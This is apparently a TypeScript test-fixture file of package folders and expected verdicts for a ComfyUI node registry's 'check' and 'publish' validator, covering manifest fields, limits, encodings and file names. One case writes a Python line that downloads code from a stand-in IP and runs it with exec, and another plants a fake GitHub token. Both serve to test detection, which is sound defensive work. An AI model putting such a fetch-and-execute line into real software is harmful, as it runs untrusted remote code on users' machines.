import { limits } from '@nodeyard/contract/limits'

/** A folder whose verdict does not depend on other packs. */
export interface VerdictCase {
  files: Record<string, string | Buffer>
  verdict: 'active' | 'waiting' | 'refused'
  /** Said by `check` and by `publish`. */
  says?: RegExp
  /** The version that clients announce, where they do not find it in [project]. */
  version?: string
  /** The registry cannot refuse what `check` and `publish` stop. It holds or lists it. */
  byRegistry?: 'waiting' | 'active'
}

const node = `class Tint:
    CATEGORY = "image"
    FUNCTION = "run"
    RETURN_TYPES = ("IMAGE",)

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"image": ("IMAGE",)}}

    def run(self, image):
        return (image,)


NODE_CLASS_MAPPINGS = {"Tint": Tint}
`

interface Manifest {
  name?: string
  version?: string
  publisher?: string
  project?: string
  comfy?: string
  more?: string
}

/** Writes a project file. Values are TOML; an empty one is left out. */
function manifest({
  name = '"tint"',
  version = '"1.0.0"',
  publisher = '"acme"',
  project = '',
  comfy = '',
  more = '',
}: Manifest): string {
  const lines = [
    '[project]',
    name && `name = ${name}`,
    version && `version = ${version}`,
    project,
    '[tool.comfy]',
    publisher && `PublisherId = ${publisher}`,
    comfy,
    more,
  ]
  return `${lines.filter((line) => line !== '').join('\n')}\n`
}

const packWith = (given: Manifest, files: Record<string, string | Buffer> = {}): VerdictCase['files'] => ({
  'pyproject.toml': manifest(given),
  '__init__.py': node,
  ...files,
})

const active = (given: Manifest, files = {}): VerdictCase => ({
  files: packWith(given, files),
  verdict: 'active',
})
const refused = (given: Manifest, says: RegExp, files = {}): VerdictCase => ({
  files: packWith(given, files),
  verdict: 'refused',
  says,
})
const dynamic = { version: '', project: 'dynamic = ["version"]' }
const fromFile = { ...dynamic, more: '[tool.comfy.version]\npath = "_version.py"' }
const letters = (count: number) => `"${'x'.repeat(count)}"`
const list = (count: number, item: (at: number) => string) =>
  `[${Array.from({ length: count }, (_, at) => `"${item(at)}"`).join(', ')}]`

/** Stopped before it is sent. */
const stopped = (given: Manifest, says: RegExp, files = {}): VerdictCase => ({
  ...refused(given, says, files),
  byRegistry: 'active',
})

/** Folders by what is special about them. */
export const verdictCases: Readonly<Record<string, VerdictCase>> = {
  'an icon on the web': active({ comfy: 'Icon = "https://example.org/icon.png"' }),
  'an icon with blanks around it': active({ comfy: 'Icon = " https://example.org/icon.png "' }),
  'an icon in the pack': active({ comfy: 'Icon = "assets/icon.png"' }, { 'assets/icon.png': 'png' }),
  'an icon outside the pack': refused(
    { comfy: 'Icon = "../icon.png"' },
    /pyproject\.toml:6: Icon in \[tool\.comfy\] must be the http/,
  ),
  'a banner that is a drawing': refused({ comfy: 'Banner = "./banner.svg"' }, /Banner in \[tool\.comfy\]/),
  'an icon in the file itself': refused({ comfy: 'Icon = "data:image/png;base64,AA=="' }, /Icon in/),
  'an icon with a blank inside': refused({ comfy: 'Icon = "https://example.org/my icon.png"' }, /Icon in/),
  'an emoji as the icon': active({ comfy: 'Icon = "🎨"' }),
  'two emoji as the icon': active({ comfy: 'Icon = "👩‍🎨🖼️"' }),
  'a number as the icon': active({ comfy: 'Icon = 5' }),

  'an import of a missing file': stopped({}, /__init__\.py:1 .*\.colors.*import-missing/, {
    '__init__.py': `from .colors import all\n${node}`,
  }),
  'a file that Python refuses': stopped({}, /__init__\.py:\d+ .*python-cannot-load/, {
    '__init__.py': `${node}x = (\n`,
  }),
  'a missing folder of scripts': stopped({}, /web-directory-missing/, {
    '__init__.py': `${node}WEB_DIRECTORY = "./js"\n`,
  }),
  'a missing license file': stopped({ project: 'license = { file = "LICENSE" }' }, /:4 .*license-missing/),
  'a pointer of Git LFS': stopped({}, /is a Git LFS pointer/, {
    'shot.png': `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`,
  }),

  'a version in a file': {
    ...active(fromFile, { '_version.py': '# Ours\n__version__ = "3.1.4"\n' }),
    version: '3.1.4',
  },
  'a version in a file with a byte order mark': {
    ...active(fromFile, { '_version.py': "\ufeffVERSION: str = 'v2.0'  # new\r\n" }),
    version: '2.0.0',
  },
  'a version in a file for hatch': {
    ...active(
      { ...dynamic, more: '[tool.hatch.version]\npath = "tint/about.py"' },
      { 'tint/about.py': '__version__ = "0.3.0"\n' },
    ),
    version: '0.3.0',
  },
  'a version in a missing file': refused(fromFile, /version is dynamic: .*_version\.py/),
  'a version in a file without one': refused(fromFile, /version is dynamic: .*__version__/, {
    '_version.py': 'x = 1\n',
  }),
  'a version of two literals': refused(fromFile, /version is dynamic/, {
    '_version.py': '__version__ = "1." "0.0"\n',
  }),
  'a version outside the folder': refused(
    { ...dynamic, more: '[tool.comfy.version]\npath = "../_version.py"' },
    /version is dynamic/,
  ),
  'a version from git': refused(
    { ...dynamic, more: '[tool.setuptools_scm]' },
    /version is dynamic: .*\[tool\.comfy\.version\]/,
  ),
  'a pre-release': refused({ version: '"1.0.0-beta.1"' }, /version in \[project\]/),
  'a version with a leading zero': refused({ version: '"2026.08.04"' }, /version in \[project\]/),
  'a version with a letter before it': active({ version: '"v1.2"' }),
  'a version with blanks around it': active({ version: '" 1.0.0 "' }),
  'a number as the version': refused({ version: '1.5' }, /pyproject\.toml:3: `version` is a number/),
  'no version': refused({ version: '' }, /version in \[project\] is missing/),
  'an empty version': refused({ version: '""' }, /version in \[project\] is missing/),

  'no name': refused({ name: '' }, /name in \[project\] is missing/),
  'a list as the name': refused({ name: '["tint"]' }, /`name` is not a text/),
  'a name with a blank inside': refused({ name: '"my tint"' }, /name in \[project\]/),
  'a name with blanks around it': active({ name: '" tint "' }),
  'a reserved name': refused({ name: '"Search"' }, /name in \[project\]/),
  'the name of a device': refused({ name: '"aux"' }, /Windows/),
  'a name that is too long': refused({ name: letters(limits.nodeIdLength + 1) }, /name in \[project\]/),
  'no publisher': refused({ publisher: '' }, /PublisherId in \[tool\.comfy\] is missing/),
  'a number as the publisher': refused({ publisher: '7' }, /`PublisherId` is a number/),

  'a description of the full length': active({
    project: `description = ${letters(limits.descriptionLength)}`,
  }),
  'a description that is too long': refused(
    { project: `description = ${letters(limits.descriptionLength + 1)}` },
    /pyproject\.toml:4: description in \[project\] .*1000/,
  ),
  'a null character in the description': refused(
    { project: 'description = "a\\u0000b"' },
    /description in \[project\]/,
  ),
  'a display name that is too long': refused(
    { comfy: `DisplayName = ${letters(limits.nameLength + 1)}` },
    /DisplayName in \[tool\.comfy\]/,
  ),
  'a license that is too long': refused(
    { project: `license = { text = ${letters(limits.licenseLength)} }` },
    /license in \[project\]/,
  ),
  'a repository that is none': refused(
    { more: '[project.urls]\nRepository = "my repository"' },
    /pyproject\.toml:7: Repository in \[project\.urls\]/,
  ),
  'a repository with a password': refused(
    { more: '[project.urls]\nRepository = "https://me:secret@github.com/acme/tint"' },
    /Repository in \[project\.urls\]/,
  ),
  'an icon address that is too long': refused(
    { comfy: `Icon = "https://example.org/${'x'.repeat(limits.urlLength)}"` },
    /Icon in \[tool\.comfy\]/,
  ),
  'too many dependencies': refused(
    { project: `dependencies = ${list(limits.dependencies + 1, (at) => `package${at}`)}` },
    /dependencies in \[project\]/,
  ),
  'a dependency that is too long': refused(
    { project: `dependencies = ["fine", ${letters(limits.dependencyLength + 1)}]` },
    /dependencies in \[project\]/,
  ),
  'too many systems': refused(
    { project: `classifiers = ${list(limits.listItems + 1, (at) => `Operating System :: POSIX :: ${at}`)}` },
    /classifiers in \[project\]/,
  ),
  'systems and accelerators that do not exist': active({
    project: 'classifiers = ["Operating System :: BeOS", "Environment :: Web Environment", 5]',
  }),
  'a range of the tool that is none': active({ comfy: 'requires-comfyui = "new"' }),
  'values of other kinds': active({
    project: 'description = 5\nlicense = ["MIT"]\ndependencies = "numpy"\nurls = "https://example.org"',
    comfy: 'DisplayName = []\nincludes = "dist"\nBanner = true',
  }),

  'only [tool.poetry]': {
    files: {
      'pyproject.toml': '[tool.poetry]\nname = "tint"\nversion = "1.0.0"\n',
      '__init__.py': node,
    },
    verdict: 'refused',
    says: /name in \[project\] is missing/,
  },
  'no project file': { files: { '__init__.py': node }, verdict: 'refused', says: /pyproject\.toml/ },
  'an empty folder': { files: {}, verdict: 'refused', says: /no files|does not exist/ },
  'a project file with a wrong line': {
    files: packWith({ project: 'description = It tints.' }),
    verdict: 'refused',
    says: /pyproject\.toml:4: /,
  },
  'a project file in UTF-16': {
    files: packWith({}, { 'pyproject.toml': Buffer.from(`\ufeff${manifest({})}`, 'utf16le') }),
    verdict: 'active',
  },
  'a project file in Latin-1': {
    files: packWith(
      {},
      {
        'pyproject.toml': Buffer.from(
          manifest({ name: '"latin"', project: 'description = "Größe"' }),
          'latin1',
        ),
      },
    ),
    verdict: 'active',
  },
  'a project file with a byte order mark': active({}, { 'pyproject.toml': `\ufeff${manifest({})}` }),
  'a project file that is too large': {
    ...refused({}, /pyproject\.toml.* larger/, {
      'pyproject.toml': `${manifest({})}# ${'x'.repeat(300_000)}\n`,
    }),
    byRegistry: 'waiting',
  },
  'a table that is none': {
    files: { 'pyproject.toml': 'project = "tint"\n', '__init__.py': node },
    verdict: 'refused',
    says: /name in \[project\]/,
  },

  'names that differ in case only': refused({}, /README\.md|readme\.md/, {
    'README.md': '# Tint\n',
    'readme.md': '# Tint\n',
  }),
  'the file name of a device': refused({}, /aux\.py/, { 'aux.py': 'x = 1\n' }),
  'a file name with a question mark': refused({}, /what\?\.py/, { 'what?.py': 'x = 1\n' }),
  'a secret': {
    ...refused({}, /settings\.py:1/, {
      'settings.py': `KEY = "ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0hL3nR6'}"\n`,
    }),
    byRegistry: 'waiting',
  },
  'code from the network': {
    files: packWith({}, { 'run.py': 'import requests\nexec(requests.get("http://203.0.113.9").text)\n' }),
    verdict: 'waiting',
  },
}
